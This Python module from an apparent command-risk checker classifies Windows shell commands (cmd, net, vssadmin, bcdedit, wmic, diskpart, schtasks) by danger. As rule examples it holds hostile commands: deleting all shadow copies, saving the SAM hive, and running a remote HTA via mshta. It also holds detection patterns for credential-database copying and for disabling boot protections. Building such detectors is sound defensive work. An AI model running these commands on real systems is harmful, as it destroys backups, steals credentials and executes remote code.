"""Programs of Windows: services, disks, the registry, accounts, and its own command shell."""

from __future__ import annotations

import re

from app.risk.commands.accounts import ACCOUNTS
from app.risk.commands.disks import FORMATS
from app.risk.commands.firewalls import NETWORK
from app.risk.commands.guards import GUARDS, LOGS
from app.risk.commands.known_files import file_content
from app.risk.commands.machine import SETTINGS
from app.risk.commands.network import LISTENS
from app.risk.commands.schedules import JOBS
from app.risk.commands.services import RESTARTS, SETS_UP, STOPS
from app.risk.commands.table import Command, program, read_command
from app.risk.effects import Act, act_on, run_unread
from app.risk.groups import rules_domain, rules_machine
from app.risk.languages import language_named
from app.risk.reading import Reading
from app.risk.rules import RiskRule, declare, word_set
from app.risk.words import Word
from assent.contracts import RiskLevel

SAFE, LOW, MEDIUM, HIGH, CRITICAL = RiskLevel

RECOVERY = declare(
    "windows.recovery",
    CRITICAL,
    "Deletes restore points or backups, or turns recovery off.",
    "vssadmin delete shadows /all /quiet",
    "vssadmin list shadows",
    language="shell",
)
CODE = declare(
    "windows.code",
    CRITICAL,
    "Runs downloaded or hidden code through a program of Windows.",
    "mshta http://x.example/a.hta",
    "mshta /?",
    language="shell",
    unread=True,
)
MEMORY = declare(
    "windows.memory",
    CRITICAL,
    "Copies passwords out of the memory or the account database of Windows.",
    "reg save 'HKLM\\SAM' sam.hive",
    "reg query 'HKLM\\Software'",
    language="shell",
)
RIGHTS = declare(
    "windows.rights",
    HIGH,
    "Changes who may do what with files of Windows.",
    "takeown /f file.txt",
    "icacls file.txt",
    language="shell",
)
SHELL = declare(
    "windows.shell",
    HIGH,
    "Runs a script of Windows' command shell, which has not been read.",
    "cmd /c deploy.bat",
    "cmd /c dir",
    language="shell",
    unread=True,
)


def line_of(command: Command) -> str:
    """Return the arguments as one text, in lower case."""
    return " ".join(word.text for word in command.arguments).lower()


def has_help(line: str) -> bool:
    """Return True if a program only prints how it is used."""
    return not line or line in ("/?", "-?", "/help", "help", "-h", "--help")


@program("cmd", "command.com")
def _cmd(command: Command, reading: Reading) -> None:
    words = list(command.arguments)
    place = next((number for number, word in enumerate(words) if re.match(r"[/-][cCkKrR]", word.text)), None)
    if place is None:
        if not all(re.match(r"/[?qadefsv]", word.text, re.IGNORECASE) for word in words):
            reading.doubt()
        return
    attached = words[place].text[2:]
    inner = [words[place].with_text(attached)] if attached else []
    inner += words[place + 1 :]
    if inner:
        read_batch(" ".join(word.text for word in inner), inner[0], reading)


def read_batch(text: str, word: Word, reading: Reading) -> None:
    """Read a line of Windows' command shell: its commands separated by ``&``, ``&&``, ``||``, and ``|``."""
    if language_named("batch"):
        reading.read("batch", text, word.line, fixed=True, within="In the command shell: ")
        return
    plain = re.sub(r"\^(.)", r"\1", text)
    if re.search(r"%\w+:~|!\w+!|%[^%\s]+%[^%\s]*%", plain):
        reading.add(SHELL, "Parts of this command are put together only when it runs.", word.line)
    for part in re.split(r"\|\||&&|[&|\n]", plain)[:200]:
        _batch_command(part.strip().lstrip("@("), word, reading)


def _batch_command(text: str, word: Word, reading: Reading) -> None:
    for target in re.findall(r"(?<![0-9])>{1,2}\s*(\"[^\"]+\"|\S+)", text):
        act_on(reading, Act.APPEND if ">>" in text else Act.WRITE, word.with_text(target.strip('"')))
    text = re.sub(r"[0-9]?>{1,2}&?\s*(?:\"[^\"]+\"|\S+)|<\s*\S+", "", text)
    parts = [part.strip('"') for part in re.findall(r"\"[^\"]*\"|[^\s\"]+", text)]
    if parts and parts[0].lower() == "start":
        parts = [part for part in parts[1:] if not part.startswith("/")]
    elif parts and parts[0].lower() == "type":
        parts[0] = "cat"
    if (
        parts
        and re.match(r"(?:set\s+)?(?:path|comspec|pathext)\b[=\s]", f"{' '.join(parts)} ", re.IGNORECASE)
        and len(text) > 5
    ):
        reading.add(SHELL, "This changes where programs are taken from.", word.line)
    elif parts and re.search(r"\.(?:bat|cmd|ps1|vbs|js|wsf)$", parts[0], re.IGNORECASE):
        reading.add(SHELL, f"This runs {parts[0][:80]}, which has not been read.", word.line)
    elif parts:
        reading.budget.step()
        read_command(
            Command(
                [word.with_text(part.replace("\\", "/") if number == 0 else part) for number, part in enumerate(parts)]
            ),
            reading,
        )


@program("del", "erase", "rd", "deltree")
def _delete(command: Command, reading: Reading) -> None:
    options = {word.text.lower() for word in command.arguments if re.fullmatch(r"/\w(?::[\w-]+)?", word.text)}
    for word in command.arguments:
        if word.text.lower() in options:
            continue
        whole = "/s" in options or command.name == "deltree"
        act_on(reading, Act.DELETE_ALL if whole else Act.DELETE, word)


@program("robocopy", "xcopy", "ren", "replace", "extrac32", "makecab", "compact", "esentutl", "print.exe")
def _copies(command: Command, reading: Reading) -> None:
    line = line_of(command)
    words = [word for word in command.arguments if not re.match(r"/\w", word.text)]
    if has_help(line) or "/l" in line.split():
        return
    if command.name == "esentutl" and re.search(r"ntds|/vss|sam\b", line):
        reading.add(MEMORY, "This copies the account database of Windows.", command.line)
    if command.name == "ren" and words:
        act_on(reading, Act.MOVE, words[0])
        return
    if len(words) >= 2:
        act_on(reading, Act.READ, words[0])
        act_on(reading, Act.WRITE, words[1])
        if re.search(r"/mir\b|/purge\b", line):
            act_on(reading, Act.DELETE_ALL, words[1])
        if re.search(r"/mov[e]?\b", line):
            act_on(reading, Act.DELETE_MANY, words[0])


@program("sc", "net", "net1", "nssm", "instsrv", "srvany", "psservice")
def _net(command: Command, reading: Reading) -> None:
    words = [word.text.lower() for word in command.arguments]
    line = " ".join(words)
    while words and words[0].startswith("\\\\"):
        reading.touch(hosts=[words.pop(0).strip("\\")])
    if has_help(line) or not words:
        return
    verb, rest = words[0], words[1:]
    if verb in ("query", "queryex", "qc", "qdescription", "qfailure", "enumdepend", "getdisplayname", "view",
    "statistics", "config", "status", "sdshow",
                "get", "qtriggerinfo", "time", "help", "helpmsg", "print",
                "dump") and not (verb == "config" and rest):  # fmt: skip
        return
    if verb in ("user", "localgroup", "group", "accounts", "computer") and command.name in ("net", "net1"):
        if (
            "/add" in rest
            or "/delete" in rest
            or len([word for word in rest if not word.startswith("/")]) > 1
            or any(word.startswith("/active") or (word.startswith("/") and ":" in word) for word in rest)
        ):
            _accounts(verb, rest, line, command, reading)
    elif verb in ("rpc", "ads", "rap", "sam") and re.search(r"\b(?:addmem|add)\b", line):  # Samba's
        _accounts("group", [*rest[2:], "/add"], line, command, reading)
    elif verb in ("stop", "delete", "pause", "remove"):
        reading.add(STOPS, f"This stops or deletes a service: {command.name} {line}."[:140], command.line)
    elif (verb in ("start", "continue", "control", "restart") and command.name != "nssm") or verb in (
        "restart",
        "start",
    ):
        if rest:
            reading.add(RESTARTS, f"This starts a service: {line}."[:140], command.line)
    elif verb == "use":
        if rest:
            reading.add(
                NETWORK, "This connects to files of another machine, or ends such a connection.", command.line, MEDIUM
            )
    elif verb == "share":
        if len(rest) > 0 and ("=" in line or "/delete" in rest or "/grant" in line):
            reading.add(LISTENS, "This changes which folders others can reach.", command.line)
    elif verb in ("session", "file", "send", "name"):
        if "/delete" in rest or "/close" in rest:
            reading.add(STOPS, "This ends connections of others.", command.line, MEDIUM)
    else:
        reading.add(SETS_UP, f"This changes what runs as a service: {command.name} {line}."[:140], command.line)


def _accounts(verb: str, rest: list[str], line: str, command: Command, reading: Reading) -> None:
    adds = verb in ("localgroup", "group") and "/add" in rest
    group = next((word for word in rest if not word.startswith("/")), "") if adds else ""
    if rules_domain(group) and (verb == "group" or "/domain" in rest):
        reading.add(ACCOUNTS, f"This makes an administrator of the domain: net {line}."[:140], command.line, CRITICAL)
        return
    what = "makes an administrator" if rules_machine(group) else "changes accounts, groups, or passwords"
    reading.add(ACCOUNTS, f"This {what}: net {line}."[:140], command.line)


@program(
    *word_set(
        "vssadmin wbadmin bcdedit reagentc diskshadow wmic fsutil cipher manage-bde format diskpart chkdsk label vol "
        "mountvol bcdboot bootsect bootrec defrag sdelete clean repair-bde dism sfc wpr convert-disk ntbackup "
        "systemreset"
    )
)
def _disks(command: Command, reading: Reading) -> None:
    line = line_of(command)
    name = command.name
    if has_help(line) and name not in ("diskpart", "bcdedit", "systemreset"):
        return
    if name in _DANGERS and (found := next((row for row in _DANGERS[name] if re.search(row[0], line)), None)):
        rule, level, message = found[1], found[2], found[3]
        if rule is not None:
            reading.add(rule, f"{message}: {name} {line}."[:140], command.line, level)
        return
    if name == "diskpart":
        given = command.input
        named = re.search(r"(?:^|\s)[/-]s\s+", line)
        if given is None and named and command.arguments[1:]:
            given = file_content(reading, command.arguments[-1])
        if given is not None and re.search(r"clean|delete|format|create|convert", given.text, re.IGNORECASE):
            reading.add(FORMATS, "This changes or deletes disks.", command.line)
        elif line.strip() or command.input_from or command.input is not None:
            run_unread(reading, "a script for disks", command.line)
        else:
            reading.doubt()
    else:
        reading.add(SETTINGS, f"This changes disks or settings of Windows: {name} {line}."[:140], command.line)


_Row = tuple[str, RiskRule | None, RiskLevel | None, str]
_DANGERS: dict[str, list[_Row]] = {
    "vssadmin": [(r"delete|resize", RECOVERY, None, "This deletes restore points"), (r"list|query", None, None, "")],
    "diskshadow": [(r"delete|/s", RECOVERY, None, "This deletes or runs restore points"), (r"list", None, None, "")],
    "wbadmin": [(r"delete", RECOVERY, None, "This deletes backups"), (r"get|\blist\b", None, None, ""), (r"disable",
    RECOVERY, None, "This turns backups off")],
    "bcdedit": [(r"recoveryenabled\s+(?:no|off|0|false)|ignoreallfailures", RECOVERY, None, "This turns recovery off"),
                (r"[/-]deletevalue\b", SETTINGS, None, "This changes how Windows starts"),
                (r"testsigning\s+(?:on|yes|1|true)|nointegritychecks\s+(?:on|yes|1|true)|disable_integrity_checks"
                 r"|\bnx\s+always ?off|safeboot\s|[/-](?:boot)?debug\s+on|hypervisorlaunchtype\s+off"
                 r"|vsmlaunchtype\s+off|[/-]delete\b|[/-]import\b", GUARDS, None,
                 "This lets Windows start without its protection, or not at all"),
                (r"^(?:[/-]store\s+\S+\s*)?(?:[/-]enum.*|[/-]v|[/-]\?.*|)$", None, None, "")],
    "reagentc": [(r"/disable", RECOVERY, None, "This turns recovery off"), (r"/info", None, None, "")],
    "wmic": [(r"shadowcopy.*(?:delete|call)", RECOVERY, None, "This deletes restore points"),
             (r"process.*call.*create", SHELL, None, "This starts a program"), (r"/node:", SHELL, None, "This acts "
             "on another machine"),
             (r"/format:\s*\S*(?:http|\\\\|\.xsl)", CODE, None, "This runs code from a style sheet"),
             (r"\buninstall\b|call\s+uninstall", SETTINGS, None, "This removes a program"),
             (r"\b(?:delete|terminate)\b", STOPS, None, "This ends or deletes what it names"),
             (r"\b(?:call|set|create)\b", SETTINGS, None, "This changes the machine"), (r"\b(?:get|list)\b|^os$"
             r"|^cpu$", None, None, "")],
    "fsutil": [(r"usn\s+deletejournal|file\s+setzerodata", LOGS, CRITICAL, "This deletes the log of changes to "
    "files"),
               (r"query|fsinfo|list|dirty query|volume diskfree", None, None, ""), (r"file\s+createnew", SETTINGS,
               MEDIUM, "This makes a file")],
    "cipher": [(r"/w", FORMATS, None, "This overwrites what was deleted, so that nothing can be recovered"),
    (r"/[ed]\b", SETTINGS, None, "This encrypts or decrypts files"),
               (r"", None, None, "")],
    "manage-bde": [(r"-status", None, None, ""), (r"-protectors.*-get", ACCOUNTS, None, "This shows the keys of an "
    "encrypted disk"),
                   (r"-(?:off|forcerecovery|delete|wipefreespace|lock)", SETTINGS, None, "This changes the "
                   "encryption of a disk")],
    "format": [(r"[a-z]:", FORMATS, None, "This deletes what is on a disk"), (r"", FORMATS, None, "This deletes "
    "what is on a disk")],
    "chkdsk": [(r"/[frxb]", SETTINGS, None, "This repairs a disk"), (r"", None, None, "")],
    "label": [(r"", SETTINGS, MEDIUM, "This names a disk")], "vol": [(r"", None, None, "")],
    "mountvol": [(r"/[dlnpre]", SETTINGS, None, "This changes which disks are mounted"), (r"", None, None, "")],
    "sdelete": [(r"", FORMATS, HIGH, "This deletes files so that nothing can be recovered")],
    "systemreset": [(r"", FORMATS, None, "This resets the machine")],
    "dism": [(r"/get-|/check|/scanhealth|/list", None, None, ""), (r"", SETTINGS, None, "This changes what Windows "
    "consists of")],
    "sfc": [(r"/verify", None, None, ""), (r"", SETTINGS, MEDIUM, "This repairs files of Windows")],
    "defrag": [(r"/a\b", None, None, ""), (r"", SETTINGS, MEDIUM, "This moves data on a disk")],
}  # fmt: skip
"""What programs do, by the first pattern that is found in their arguments."""


@program("schtasks", "jt")
def _tasks(command: Command, reading: Reading) -> None:
    line = line_of(command)
    if has_help(line) or re.match(r"/query", line):
        return
    what = "deletes" if "/delete" in line else "runs" if "/run" in line else "changes"
    reading.add(
        JOBS,
        f"This {what} a job that runs by the clock or at start.",
        command.line,
        MEDIUM if what == "runs" or "/end" in line else None,
    )
    for number, word in enumerate(command.arguments[:-1]):
        if word.text.lower() == "/tr":
            read_batch(command.arguments[number + 1].text, word, reading)
